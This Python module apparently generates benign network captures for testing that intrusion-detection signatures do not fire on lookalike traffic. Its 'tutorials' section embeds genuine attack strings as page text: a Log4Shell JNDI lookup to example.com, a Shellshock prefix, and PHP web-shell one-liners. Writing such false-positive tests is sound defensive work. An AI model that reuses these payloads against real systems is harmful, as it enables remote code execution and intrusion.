# SPDX-License-Identifier: BSD-3-Clause
"""Traffic that no signature may fire on: everyday sessions, and texts that come close to attacks without being any."""
import random
import zlib

from . import protocols as p
from .packets import DESK, DESK2, DNS_SERVER, MAIL_SERVER, OUTSIDE, OUTSIDE2, TCP, WEB_SERVER, SYN, Capture, tcp

HARMLESS = {}  # name: (function, what a person is told)
SITE = "198.51.100.80"

LOREM = ("The union of workers asked members to select a committee; or, as O'Neill wrote, 'one = one' is true in any club. "
         "Drop by the table near the exit and insert a coin. Update: the group was created where it was deleted. ")


def harmless(name, words):
    def keep(function):
        HARMLESS[name] = (function, words)
        return function
    return keep


def build(name, **options):
    capture = Capture(seed=sum(name.encode()) + 7)
    HARMLESS[name][0](capture, options)
    return capture.frames


def talk(capture, options, exchanges, client=DESK, server=SITE, port=80):
    """One kept-alive session: (request, answer) after one another."""
    session = capture.session(client, server, port, **options)
    for request, answer in exchanges:
        session.client(request).server(answer)
        capture.wait(0.05)
    session.close()


@harmless("browsing", "a person reads web pages")
def browsing(c, o):
    pages = []
    for n, (chunked, encoding) in enumerate(((0, None), (700, None), (0, "gzip"), (512, "gzip"), (0, "deflate"))):
        body = p.page("Page %d" % n, "<p>%s</p>" % (LOREM * 20))
        pages.append((p.request("GET", "/articles/%d/?from=home&sort=date" % n, headers=[("Accept-Encoding", "gzip, deflate")]),
                      p.response(body, chunked=chunked, encoding=encoding)))
    talk(c, o, pages)
    talk(c, o, [(p.request("GET", "/style/%s.css" % x), p.response(b"body { margin: 0; } p { color: #222; }\n" * 40,
                                                                   kind="text/css")) for x in ("main", "print", "dark")])


@harmless("searches", "searches with quotes and the words of SQL, of shells and of paths")
def searches(c, o):
    for query in ("student+union+select+committee", "O%27Neill+and+sons", "select+a+table+from+the+union+catalogue",
                  "what+is+1%3D1", "%22rock+%27n%27+roll%22+or+jazz", "how+to+sleep+%285+tips%29", "drop+table+lamp",
                  "cat+%26+dog+food", "dogs%7Ccats", "id+card+%3B+passport", "price+%3E+10+%26%26+price+%3C+20",
                  "etc+passwd+file+format", "python+time.sleep(5)", "c%23+..%2F+relative+path", "%24%7Bname%7D+template",
                  "jndi+tutorial", "bash+function+%28%29+%7B+syntax", "5+%27or+so%27+miles", "a+%3D+b+or+c+%3D+c"):
        talk(c, o, [(p.request("GET", "/search?q=" + query), p.response(p.page("Search", LOREM)))])


@harmless("lookalike-uris", "URIs that only look dangerous")
def lookalike_uris(c, o):
    for target in ("/a/../b/index.html", "/docs/v1..v2/diff", "/view?fields=name;id", "/list?tags=dog;cat+food",
                   "/shop.php?cmd=list&page=2", "/admin.php?command=refresh", "/x?exec=true", "/cgi-bin/search?ls=1",
                   "/files/etc/passwd-policy.html", "/guide?next=../chapter2", "/100%25/off", "/a%2eb/c%2fd",
                   "/api/users?filter=(a=1)or(b=2)", "/submit.php?id=4", "/submit.php", "/union/select-members",
                   "/ping?host=example.com&count=4", "/img/whoami.png", "/?redirect=https://www.example.com/wget",
                   "/bin/sh-guide.html", "/calc?expr=1;2;3", "/sleep(5)", "/report?when=5&delay='0'"):
        talk(c, o, [(p.request("GET", target), p.response(p.page("Page", LOREM)))], client=OUTSIDE2, server=WEB_SERVER)


@harmless("forms", "people write to each other about databases and shells")
def forms(c, o):
    for text in ("It%27s+the+union%27s+turn+to+select+a+leader",
                 "My+name+is+O%27Brien+and+I+say%3A+%22or+else%22",
                 "Use+curl+or+wget+to+fetch+the+file%2C+then+open+it",
                 "The+file+%2Fetc%2Fpasswd+lists+users%3B+%2Fdev%2Ftcp+is+a+feature+of+bash",
                 "function+f%28%29+%7B+return+1%3B+%7D", "a+%3D+a+holds+always%2C+or+so+they+say",
                 "select+name+from+the+list+below%2C+or+add+your+own"):
        talk(c, o, [(p.form("/comments", "author=taro&text=" + text), p.response(status="303 See Other"))],
             client=OUTSIDE2, server=WEB_SERVER)


@harmless("tutorials", "pages that teach what attacks look like")
def tutorials(c, o):
    texts = ("If you read <i>You have an error in your SQL syntax</i>, look for a quote.",
             "<pre>$ id\nuid=1000(taro) gid=1000(taro) groups=1000(taro),27(sudo)</pre>",
             "<pre>root:x:0:0:root:/root:/bin/bash</pre> is the first line of the file.",
             "Send ${jndi:ldap://example.com/a} and () { :; }; to your own test system only.",
             "<pre>&lt;?php system($_GET['c']); ?&gt;</pre> <?php eval($_POST['x']); ?> in the c99shell",
             "Microsoft Windows [Version 10.0.19045.3693] (c) Microsoft Corporation\nC:\\Users\\taro&gt;",
             "bash: no job control in this shell; javaClassName and javaCodeBase in LDAP")
    talk(c, o, [(p.request("GET", "/learn/%d" % n), p.response(p.page("Lesson %d" % n, text), chunked=n % 2 * 64))
                for n, text in enumerate(texts)])


@harmless("json-api", "a program talks JSON to an API")
def json_api(c, o):
    body = b'{"query":"{ user(id: 7) { name } }","variables":{"where":"a = 1","template":"${name}","path":"../img"}}'
    answer = b'{"data":{"user":{"name":"D\'Arcy"}},"sql":"select 1","uid=7":"gid=7","next":null}' * 30
    kind = [("Content-Type", "application/json"), ("Authorization", "Bearer abc.def.ghi")]
    talk(c, o, [(p.request("POST", "/graphql", headers=kind, body=body), p.response(answer, kind="application/json", encoding="gzip"))
                for _ in range(4)])
    talk(c, o, [(p.request("POST", "/submit.php?id=abc", headers=[("Content-Type", "application/octet-stream")], body=body),
                 p.response(b"{}", kind="application/json"))])


@harmless("uploads", "pictures, scripts of a developer, and an archive are uploaded")
def uploads(c, o):
    rnd = random.Random(3)
    blob = bytes(rnd.randrange(256) for _ in range(30000))
    talk(c, o, [(p.upload("/photos", "cat.jpg", b"\xff\xd8\xff\xe0" + blob, kind="image/jpeg"), p.response(b"ok")),
                (p.upload("/git", "index.php", b"<?php\n// a page\necho htmlspecialchars($title);\nrequire 'system.php';\n"
                          b"$run = execute($plan); $ok = assert($plan !== null);\n", kind="text/x-php"), p.response(b"ok")),
                (p.upload("/git", "Main.java", b"Runtime rt = Runtime.getRuntime();\nlong free = rt.freeMemory();\n"
                          b"executor.execute(job); String s = request.getHeader(\"Host\");\n"), p.response(b"ok"))],
         client=OUTSIDE2, server=WEB_SERVER)


@harmless("download", "a large file, chunked, and the same in ranges")
def download(c, o):
    rnd = random.Random(5)
    data = bytes(rnd.randrange(256) for _ in range(120000))
    talk(c, o, [(p.request("GET", "/pool/main/s/sekisho_0.1.deb", agent="Debian APT-HTTP/1.3 (2.6.1)"),
                 p.response(data, kind="application/octet-stream", chunked=8000)),
                (p.request("GET", "/pool/main/s/sekisho_0.1.deb", headers=[("Range", "bytes=0-999")]),
                 p.response(data[:1000], status="206 Partial Content", kind="application/octet-stream"))])


@harmless("broken-links", "a page with a few broken links, and a visitor who is not logged in")
def broken_links(c, o):
    talk(c, o, [(p.request("GET", "/old/%d.html" % n), p.response(b"gone", status="404 Not Found")) for n in range(9)] +
         [(p.request("GET", "/private"), p.response(b"no", status="401 Unauthorized"))])


@harmless("agents", "programs that fetch pages and say so")
def agents(c, o):
    for agent in ("curl/7.88.1", "Wget/1.21.3", "python-requests/2.31.0", "Go-http-client/1.1", "Debian APT-HTTP/1.3",
                  "Googlebot/2.1 (+http://www.google.com/bot.html)", "kube-probe/1.27", "sqlmaps.example reader", ""):
        talk(c, o, [(p.request("GET", "/", agent=agent), p.response(p.page("Hello", LOREM)))])


@harmless("dns", "names are looked up, over UDP and TCP")
def dns(c, o):
    names = [("www.example.com", p.A, b"\xc6\x33\x64\x50"), ("example.com", p.MX, b"\0\x0a\xc0\x0c"),
             ("www.example.com", p.AAAA, bytes.fromhex("20010db8000000000000000000000050")),
             ("_spf.example.com", p.TXT, b"\x0ev=spf1 mx -all"),
             ("e1a2b3c4d5e6f708192a3b4c5d6e7f80.cdn.provider-edge-network.example.net", p.A, b"\xc6\x33\x64\x51"),
             ("selector1-very-long-company-name-that-marketing-wanted._domainkey.mail.customers.service.example.com",
              p.TXT, b"\x06v=DKIM"), ("15.0.2.10.in-addr.arpa", 12, p.dns_name("desk.example.com"))]
    for n, (name, kind, data) in enumerate(names):
        c.datagram(DESK, DNS_SERVER, 33000 + n, 53, p.dns_query(n, name, kind))
        c.datagram(DNS_SERVER, DESK, 53, 33000 + n, p.dns_answer(n, name, [(kind, 300, data)], kind))
    c.datagram(DESK, DNS_SERVER, 33100, 53, p.dns_query(99, "nowhere.example.com"))
    c.datagram(DNS_SERVER, DESK, 53, 33100, p.dns_answer(99, "nowhere.example.com", [], code=3))
    question, answer = p.dns_query(7, "big.example.com", p.TXT), p.dns_answer(7, "big.example.com", [
        (p.TXT, 60, b"\x40" + b"t" * 64)] * 20, p.TXT)
    session = c.session(DESK, DNS_SERVER, 53, **o)
    session.client(len(question).to_bytes(2, "big") + question).server(len(answer).to_bytes(2, "big") + answer).close()


@harmless("tls", "TLS sessions begin, and opaque data follows")
def tls(c, o):
    for n, host in enumerate(("www.example.com", "mail.example.org", "api.example.net")):
        rnd = random.Random(n)
        blob = bytes(rnd.randrange(256) for _ in range(4000))
        cert = p.certificate(0x1234567890ABCDEF0011 + n, [("CN", host)], [("C", "JP"), ("O", "Example Trust"), ("CN", "CA 1")])
        session = c.session(DESK2, SITE, 443, **o)
        session.client(p.tls_client_hello(host, blob[:32]))
        session.server(p.tls_server_hello(blob[32:64]) + p.tls_certificate(cert))
        session.client(p.tls_record(20, b"\1") + p.tls_record(22, blob[100:140]))
        session.server(p.tls_record(20, b"\1") + p.tls_record(22, blob[200:240]))
        session.client(p.tls_record(23, blob[:300])).server(p.tls_record(23, blob[300:]))
        session.close()


@harmless("mail", "a letter by SMTP")
def mail(c, o):
    session = c.session(OUTSIDE2, MAIL_SERVER, 25, **o)
    session.server(b"220 mail.example.com ESMTP\r\n")
    for order, answer in (("EHLO out.example.org", "250-mail.example.com\r\n250 8BITMIME"),
                          ("MAIL FROM:<hanako@example.org>", "250 ok"), ("RCPT TO:<taro@example.com>", "250 ok"),
                          ("DATA", "354 go on")):
        session.client(order.encode() + b"\r\n").server(answer.encode() + b"\r\n")
    session.client(("From: hanako@example.org\r\nTo: taro@example.com\r\nSubject: the union's table\r\n\r\n" + LOREM +
                    "\r\nC:\\Users\\hanako> is my prompt.\r\n.\r\n").encode())
    session.server(b"250 queued\r\n").client(b"QUIT\r\n").server(b"221 bye\r\n").close()


@harmless("ssh", "an SSH session: banners, then what nobody can read")
def ssh(c, o):
    session = c.session(DESK, SITE, 22, **o)
    session.server(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u1\r\n").client(b"SSH-2.0-OpenSSH_9.2p1\r\n")
    noise = zlib.compress(LOREM.encode() * 3)
    for _ in range(10):
        session.client(len(noise).to_bytes(4, "big") + noise).server(len(noise).to_bytes(4, "big") + noise[::-1])
    session.close()


@harmless("file-server", "a desk opens a handful of connections to file servers")
def file_server(c, o):
    for n in range(6):
        c.add_ip(DESK, "10.1.0.%d" % (30 + n), TCP, tcp(DESK, "10.1.0.%d" % (30 + n), 51000 + n, 445, 1000 + n, 0, SYN))
        c.wait(0.4)
    session = c.session(DESK, "10.1.0.30", 445, **o)
    negotiate = b"\xfeSMB\x40\0" + bytes(58) + bytes.fromhex("24000100010000007f000000") + bytes(24) + b"\x02\x02"
    session.client(len(negotiate).to_bytes(4, "big") + negotiate)
    session.server(b"\0\0\0\x49\xfeSMB\x40\0" + bytes(2) + b"\xbb\0\0\xc0" + bytes(4) + b"\1" + bytes(47) + b"\x09" + bytes(8))
    session.close()


@harmless("ldap", "an address book is asked")
def ldap(c, o):
    def entry(kind, value):
        return p.der(0x30, p.der(4, kind), p.der(0x31, p.der(4, value)))

    session = c.session(DESK, "10.1.0.40", 389, **o)
    session.client(bytes.fromhex("300c020101600702010304008000")).server(bytes.fromhex("300c02010161070a010004000400"))
    session.client(p.der(0x30, p.der(2, b"\2"), p.der(0x63, p.der(4, b"dc=example"), bytes.fromhex(
        "0a01020a0100020100020100010100"), p.der(0x87, b"objectClass"), p.der(0x30))))
    session.server(p.der(0x30, p.der(2, b"\2"), p.der(0x64, p.der(4, b"cn=taro"), p.der(
        0x30, entry(b"cn", b"Taro"), entry(b"description", b"knows javaClassName by heart")))))
    session.close()


@harmless("clients", "many short sessions from many people outside")
def clients(c, o):
    for n in range(40):
        talk(c, o, [(p.request("GET", "/?visit=%d" % n, headers=[("Cookie", "sid=%08x; lang=ja; f=(a)" % (n * 7919))]),
                     p.response(p.page("Welcome", LOREM)))], client="192.0.2.%d" % (n + 1), server=WEB_SERVER)
    talk(c, o, [(p.request("HEAD", "/"), p.response()[:-1] + b"\n")], client=OUTSIDE, server=WEB_SERVER)
